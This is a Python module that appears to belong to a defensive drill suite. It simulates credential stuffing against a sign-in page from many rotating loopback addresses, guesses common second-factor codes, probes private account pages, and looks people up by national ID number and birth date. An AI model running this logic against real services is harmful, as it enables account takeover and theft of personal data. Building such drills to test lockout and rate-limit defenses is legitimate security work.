"""A program that types logins and passwords into the sign-in page, from as many addresses as it likes."""

import re
import secrets
from collections import Counter
from dataclasses import dataclass, field

from rempart.drills.browser import LOOK_UP, SIGN_IN, Browser, hidden, reference_of
from rempart.drills.tally import Person
from rempart.drills.target import Target
from rempart.drills.wire import Answer, LostError, Wire

RIGHT, WRONG, HELD = "right", "wrong", "held"
"""A password was taken, was wrong, or was not even compared: too many from there, or by strangers."""
_FOUND, _OK = 302, 200
_CODE = "/sign-in/code/"
_PRIVATE = ("/", "/consultations", "/compte", "/compte/avis", "/account/second-factor/")
_HELD = re.compile("Trop d’essais|Trop de mots de passe")


_BLOCK = 20 + secrets.randbelow(200)
"""Drawn for each run: what earlier runs spent is not this attacker's."""


def address(number: int) -> str:
    """The attacker's address of that number, on this machine: none is the owner's."""
    return f"127.{_BLOCK}.{number // 250}.{number % 250 + 1}"


@dataclass
class Loot:
    """What all the guessing got."""

    tried: Counter[str] = field(default_factory=Counter)
    codes: int = 0
    pages: int = 0
    sessions: int = 0
    exposed: set[Person] = field(default_factory=set)
    references: dict[str, str] = field(default_factory=dict)
    """Reference of an answer → login."""


class Guesser:
    """One address of the attacker's, and the cookies it was given there."""

    def __init__(self, target: Target, source: str, loot: Loot) -> None:
        self._target = target
        self._wire = Wire(target.pages, source)
        self._browser = Browser(target.pages)
        self._form: dict[str, str] = {}
        self._loot = loot

    async def guess(self, login: str, password: str) -> str:
        """Type one pair; go on as far as it leads."""
        answer = await self._type(login, password)
        outcome = _outcome(answer)
        self._loot.tried[outcome] += 1
        if outcome == RIGHT:
            await self._go_on(login, answer.header("location"))
            self._browser, self._form = Browser(self._target.pages), {}
        return outcome

    async def leave(self) -> None:
        await self._wire.close()

    async def _type(self, login: str, password: str) -> Answer:
        for _ in range(3):
            try:
                if not self._form:
                    page = await self._browser.get(self._wire, SIGN_IN)
                    self._form = hidden(page.body, "login")
                typed = {"login": login, "password": password}
                return await self._browser.post(self._wire, SIGN_IN, self._form | typed)
            except LostError:
                self._form = {}
        return Answer(0, [], b"")

    async def _go_on(self, login: str, step: str) -> None:
        """The password was right: guess codes, and try every page with what one has by now."""
        for code in ("000000", "123456", "111111", "240824"):
            if not step.startswith(_CODE):
                break
            form = hidden((await self._browser.get(self._wire, step)).body, "code")
            self._loot.codes += 1
            answer = await self._browser.post(self._wire, step, form | {"code": code})
            if answer.status == _FOUND and not answer.header("location").startswith("/sign-in/"):
                self._loot.sessions += 1
        for path in _PRIVATE:
            answer = await self._browser.get(self._wire, path)
            self._loot.pages += answer.status == _OK
        await self._look_up(login)

    async def _look_up(self, login: str) -> None:
        for person in self._target.persons[:3]:
            form = hidden((await self._browser.get(self._wire, SIGN_IN)).body, "login")
            asked = {"nir": person.nir, "birth_date": person.birth_date} | form
            answer = await self._browser.post(self._wire, LOOK_UP, asked, fragment=True)
            reference = reference_of(answer.body)
            if reference:
                self._loot.exposed.add(person)
                self._loot.references[reference] = login


def _outcome(answer: Answer) -> str:
    if answer.status == _FOUND:
        return RIGHT
    return HELD if _HELD.search(answer.body.decode("utf-8", "replace")) else WRONG
